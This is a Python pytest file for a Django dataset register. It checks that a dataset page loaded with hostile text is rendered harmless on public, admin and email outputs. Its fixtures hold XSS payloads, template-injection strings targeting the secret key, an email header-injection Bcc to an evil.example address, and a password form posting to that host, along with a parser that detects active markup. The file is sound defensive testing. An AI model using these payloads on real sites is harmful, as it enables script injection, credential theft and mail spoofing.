"""A hostile page of the register, imported, on its whole way: pages, list, request form, admin, mails."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from access_requests.models import AccessRequest
from aidahub.accounts.models import User
from aidahub.outbox.models import Mail
from datasets.models import Dataset
from tests.cast import act_for, provider_of, sent
from tests.register.pages import BODY, FRONT

pytestmark = pytest.mark.django_db

TAKES = re.compile(
    r'^(?P<before>\s*-? ?"?(?:name|title|version|about|shortName|origin|status|email)"?: )"(?P<text>.*)"$'
)
PAYLOADS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "breakout": "</script></style></title></textarea>--><svg onload=alert(1)>",
    "attribute": "' onfocus='alert(1)' autofocus x='\\\" onmouseover=\\\"alert(1)",
    "template": "{{ settings.SECRET_KEY }}{% debug %}%(dataset)s%s{0}",
    "header": "x\\r\\nBcc: eve@evil.example\\r\\n\\r\\n<h1>Boo</h1>",
    "marks": "\\u202egpj.exe\\u2066\\u0000\\ufeff",
}
HOSTILE_TEXT = """
<script>alert(1)</script><iframe src="//evil.example"></iframe><svg><script>alert(1)</script></svg>
<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/"><link rel=stylesheet href=//x>
<style>*{display:none}</style><div style="position:fixed;inset:0" class="x" onclick="alert(1)">over all</div>
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<a href="javascript:alert(1)">a</a>
<a href="data:text/html,x">b</a> [c](javascript:alert(1)) [d](data:text/html;base64,x)
<a href="JaVaScRiPt&colon;alert(1)">e</a> <a href="&#x0A;javascript:alert(1)">f</a> ![g](javascript:alert(1))
<a href="java&#x202e;script:alert(1)">g</a> [h](java\u202escript:alert(1)) &#8238;turned\u2066
"""
ACTS = {"script", "iframe", "object", "embed", "meta", "base", "style", "svg", "math", "form"}


def hostile(payload: str) -> bytes:
    """The right page with the payload in every short text, and all that acts in the long ones."""
    lines = []
    for line in FRONT.split("\n"):
        found = TAKES.match(line)
        keep = not found or found["text"] in {"Controlled access", "AIDA BY license", "AIDA Data Hub"}
        address = found is not None and "email" in found["before"]
        lines.append(line if keep or address else f'{found["before"]}"{payload}"' if found else line)
    long = HOSTILE_TEXT.strip().replace("\n", "\n    ")
    front = "\n".join(lines).replace("One *set* of images.", long).replace("Drawn by hand.", long)
    body = BODY.replace("Nothing to see.", HOSTILE_TEXT).replace("Free for use", HOSTILE_TEXT + "\nFree for use")
    return f"---\n{front}\n---\n{body}".encode()


class Danger(HTMLParser):
    """Collects what acts. `main` is what stands in the page's own part, where our own forms are left out."""

    def __init__(self) -> None:
        """Nothing found yet."""
        super().__init__()
        self.found: list[str] = []
        self.titles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        given = {name: value or "" for name, value in attrs}
        ours = (
            (
                tag == "script"
                and (
                    given.get("type") == "application/ld+json"
                    or given.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
                )
            )
            or (tag == "meta" and "http-equiv" not in given)
            or (tag == "form" and not given.get("action", "").startswith(("//", "http")))
            or tag == "svg"
        )
        if tag in ACTS and not ours:
            self.found.append(f"{tag} {given}")
        for name, value in given.items():
            address = re.sub(r"[\s\x00-\x20]", "", value).lower()
            leads = name in {"href", "src", "action", "formaction"} and address.startswith(
                ("javascript:", "data:", "//")
            )
            if name.startswith("on") or name == "style" or leads:
                self.found.append(f"{tag} {name}={value}")


def dangers(html: str) -> list[str]:
    """What acts in a page."""
    parser = Danger()
    parser.feed(html)
    return parser.found


@pytest.fixture(params=PAYLOADS)
def dataset(request: pytest.FixtureRequest, tmp_path: Path, db: None) -> Dataset:
    """The dataset of a hostile page."""
    path = tmp_path / "testset.md"
    path.write_bytes(hostile(PAYLOADS[request.param]))
    call_command("import_datasets", str(path), verbosity=0)
    return Dataset.objects.get()


def test_nothing_of_a_hostile_page_acts_anywhere(
    client: Client, dataset: Dataset, ada: User, hedda: User, admin_pages: list[str]
) -> None:
    provider = act_for(hedda, provider_of(dataset, 1))
    request: AccessRequest = sent(ada, dataset)
    address = dataset.get_absolute_url()
    own = [request.get_absolute_url(), "/requests/", f"{address}/request/"]
    desk = [page.format(reference=request.reference, pk=dataset.pk) for page in admin_pages]
    for person, paths in ((None, ["/", "/datasets/", "/datasets/?q=x", address]), (ada, own), (provider, desk)):
        if person:
            client.force_login(person)
        for path in paths:
            answer = client.get(path)
            assert answer.status_code == 200, path
            html = answer.content.decode()
            assert dangers(html) == [], path
            assert "only-for-tests" not in html, "a template of the page was run"
            assert "\u202e" not in html
    schema = re.search(
        r'<script type="application/ld\+json">(.*?)</script>', client.get(address).content.decode(), re.S
    )
    assert schema
    assert json.loads(schema[1])["@type"] == "Dataset"
    for mail in Mail.objects.all():
        assert dangers(mail.html) == ["style {}"], "the letters' own"
        assert "\n" not in mail.subject + str(mail.headers)
        assert "\u202e" not in mail.subject + mail.text + mail.html


@pytest.fixture
def admin_pages() -> list[str]:
    """Where the admin shows a dataset's words."""
    requests = "/admin/access_requests/accessrequest/"
    return [
        "/admin/", requests, requests + "{reference}/change/", requests + "{reference}/approve/",
        requests + "several/approve/?reference={reference}", "/admin/datasets/dataset/",
        "/admin/datasets/dataset/{pk}/change/", "/admin/outbox/mail/", "/admin/datasets/licensetext/",
    ]  # fmt: skip
